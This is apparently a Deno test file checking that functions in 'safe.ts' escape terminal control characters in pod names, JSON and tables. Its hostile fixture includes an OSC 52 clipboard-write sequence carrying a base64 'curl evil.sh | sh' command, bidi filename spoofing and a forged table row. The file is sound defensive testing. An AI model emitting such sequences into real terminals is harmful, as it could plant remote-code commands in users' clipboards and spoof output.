import assert from "node:assert/strict";
import { escapeUnsafe, safeJson, safeTable, safeText } from "./safe.ts";

/** What an attacker puts in a field: OSC 52 clipboard write, CSI, C1 CSI, bidi, a forged row. */
const OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
const HOSTILE = `/healthz${OSC52}\x1b[2J\u009b31m\u202egnp.exe\u2066\u200b\nFAKE ROW\r\x7f\u2028`;

/** True when `text` holds a character a terminal could act on, or that is not shown as itself. */
function hasUnsafe(text: string): boolean {
  return /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|\p{Cs}/u.test(text);
}

Deno.test("safeText() writes every control, format and separator character as a visible escape", () => {
  assert.equal(
    safeText(HOSTILE),
    "/healthz\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x9b31m\\u202egnp.exe\\u2066" +
      "\\u200b\\x0aFAKE ROW\\x0d\\x7f\\u2028",
  );
  assert.ok(!hasUnsafe(safeText(HOSTILE)));
});

Deno.test("safeText() leaves printable text, spaces and other scripts as they are", () => {
  const plain = "default/web-0 net-a (7) /ready?x=1 café 網絡 🙂 tab-less";
  assert.equal(safeText(plain), plain);
});

Deno.test("safeText() doubles backslashes so text that looks like an escape is told apart", () => {
  assert.equal(safeText("\\x1b"), "\\\\x1b");
  assert.notEqual(safeText("\\x1b"), safeText("\x1b"));
});

Deno.test("safeText() escapes a lone surrogate and a format character above U+FFFF", () => {
  assert.equal(safeText("a\ud800b"), "a\\ud800b");
  assert.equal(safeText("tag\u{e0041}"), "tag\\u{e0041}");
  assert.equal(safeText("\u{1f642}"), "\u{1f642}", "an emoji (a surrogate pair) is kept");
});

Deno.test("escapeUnsafe() escapes like safeText() but leaves backslashes alone", () => {
  assert.equal(escapeUnsafe('"a\\x1b\u202e"'), '"a\\x1b\\u202e"');
  assert.ok(!hasUnsafe(escapeUnsafe(HOSTILE)));
});

Deno.test("safeJson() gives the same value back to a parser and no unsafe character to a terminal", () => {
  const value = { pod: `ns/${HOSTILE}`, list: [HOSTILE, 7, null], tag: "x\u{e0041}\ud800" };
  for (const space of [undefined, 2]) {
    const text = safeJson(value, space);
    assert.deepEqual(JSON.parse(text), value);
    // Only the layout's own newlines and spaces remain.
    assert.ok(!hasUnsafe(text.replaceAll("\n", "")), text);
  }
  assert.match(safeJson("\u009b\u202e"), /^"\\u009b\\u202e"$/);
  assert.equal(safeJson({ a: 1 }, 2), '{\n  "a": 1\n}');
});

Deno.test("safeTable() aligns each column to its widest cell, two spaces apart, with no trailing blanks", () => {
  assert.equal(
    safeTable(["POD", "PORT", "HITS"], [["ns/a", "8080", "-"], ["ns/longer", "80", "12"]]),
    [
      "POD        PORT  HITS",
      "ns/a       8080  -",
      "ns/longer  80    12",
    ].join("\n"),
  );
});

Deno.test("safeTable() escapes every cell, so a pod's name cannot forge a row", () => {
  const lines = safeTable(["POD", "PORT"], [[HOSTILE, "80"]]).split("\n");
  assert.equal(lines.length, 2);
  for (const line of lines) assert.ok(!hasUnsafe(line), JSON.stringify(line));
  assert.ok(lines[1].endsWith("  80"));
});
